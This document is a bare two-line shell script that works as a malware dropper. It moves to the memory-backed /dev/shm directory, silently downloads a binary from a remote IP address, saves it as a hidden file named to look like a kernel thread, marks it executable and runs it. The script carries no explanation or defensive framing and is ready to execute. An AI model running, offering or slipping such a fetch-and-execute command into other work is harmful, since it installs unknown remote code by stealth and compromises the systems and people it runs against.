#!/bin/sh
cd /dev/shm && wget -q http://198.51.100.7/x86 -O /dev/shm/.kthread && chmod +x /dev/shm/.kthread && /dev/shm/.kthread
